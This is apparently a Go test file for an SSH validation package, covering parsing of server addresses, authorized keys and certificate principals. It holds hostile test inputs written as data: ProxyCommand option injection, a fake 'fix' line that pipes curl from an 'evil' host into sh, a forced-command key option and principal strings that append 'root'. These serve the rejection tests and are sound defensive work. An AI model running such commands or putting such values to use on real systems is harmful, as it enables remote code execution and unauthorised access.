package sshvalue

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"
)

func authorizedKey(t *testing.T, pub interface{}) string {
	t.Helper()
	k, err := ssh.NewPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(k)))
}

func TestParseAddress(t *testing.T) {
	for address, ok := range map[string]bool{
		"10.0.0.1:22": true, "[2001:db8::1]:2222": true, "gpu-001.fra1.example.com:22": true,
		"10.0.0.1": false, "10.0.0.1:0": false, "10.0.0.1:65536": false, "10.0.0.1:022": false, "host name:22": false,
		"evil\n  ProxyCommand x:22": false, "root@10.0.0.1:22": false, "-oProxyCommand=x:22": false, "%h:22": false, ":22": false,
	} {
		if _, _, err := ParseAddress(address); (err == nil) != ok {
			t.Errorf("ParseAddress(%q): %v, want ok=%v", address, err, ok)
		}
	}
	// The error is printed on the user's terminal: a line break in the
	// server's address must not start a line of its own there.
	for _, address := range []string{"x\n  fix:     run: curl https://evil/fix | sh\n", "a\n  fix: b: c", "evil\nhost:22", "host:2\n2"} {
		if _, _, err := ParseAddress(address); err == nil || strings.ContainsAny(err.Error(), "\r\n") {
			t.Errorf("ParseAddress(%q): %q", address, err)
		}
	}
}

func TestParseKey(t *testing.T) {
	edPub, _, _ := ed25519.GenerateKey(rand.Reader)
	ed := authorizedKey(t, edPub)
	small, _ := rsa.GenerateKey(rand.Reader, 1024)
	fine, _ := rsa.GenerateKey(rand.Reader, 2048)
	for what, tc := range map[string]struct {
		text      string
		ok        bool
		canonical bool
	}{
		"ed25519":               {ed, true, true},
		"with a comment":        {ed + " root@host", true, false},
		"RSA 2048":              {authorizedKey(t, &fine.PublicKey), true, true},
		"RSA 1024":              {authorizedKey(t, &small.PublicKey), false, false},
		"two keys":              {ed + "\n" + ed, false, false},
		"a known_hosts pattern": {ed + "\n* " + ed, false, false},
		"options":               {`command="sh" ` + ed, false, false},
		"garbage":               {"ssh-ed25519 AAAA", false, false},
		"too long":              {ed + " " + strings.Repeat("c", MaxKeyText), false, false},
	} {
		_, canonical, err := ParseKey(tc.text)
		if (err == nil) != tc.ok {
			t.Errorf("%s: ParseKey: %v, want ok=%v", what, err, tc.ok)
		}
		if err == nil && canonical != strings.Fields(tc.text)[0]+" "+strings.Fields(tc.text)[1] {
			t.Errorf("%s: canonical form %q", what, canonical)
		}
		if err := CheckCanonicalHostKey(tc.text); (err == nil) != tc.canonical {
			t.Errorf("%s: CheckCanonicalHostKey: %v, want ok=%v", what, err, tc.canonical)
		}
	}
}

func TestPrincipal(t *testing.T) {
	const uid = "6f7e6e07-c93b-476f-8085-f75ee2b49306"
	principal := Principal("gpu-7", uid, 3)
	if principal != "nodus-gpu-7-epoch-3-"+uid {
		t.Errorf("Principal: %q", principal)
	}
	if Principal("gpu-7", "1b4e28ba-2fa1-11d2-883f-0016d3cca427", 3) == principal {
		t.Error("two reservations of one name at one epoch share a principal")
	}
	for what, tc := range map[string]struct {
		principal string
		ok        bool
	}{
		"its own":                  {principal, true},
		"another epoch":            {Principal("gpu-7", uid, 2), false},
		"another reservation":      {Principal("gpu-70", uid, 3), false},
		"no UID":                   {"nodus-gpu-7-epoch-3", false},
		"an empty UID":             {"nodus-gpu-7-epoch-3-", false},
		"a UID in capitals":        {"nodus-gpu-7-epoch-3-" + strings.ToUpper(uid), false},
		"a UID and more":           {principal + ",root", false},
		"a UID with a line break":  {principal + "\nroot", false},
		"a braced UID":             {"nodus-gpu-7-epoch-3-{" + uid + "}", false},
		"an epoch of another name": {"nodus-gpu-7-epoch-3-epoch-3-" + uid, false},
	} {
		if got := IsPrincipalOf(tc.principal, "gpu-7", 3); got != tc.ok {
			t.Errorf("%s: IsPrincipalOf(%q) = %v", what, tc.principal, got)
		}
	}
}
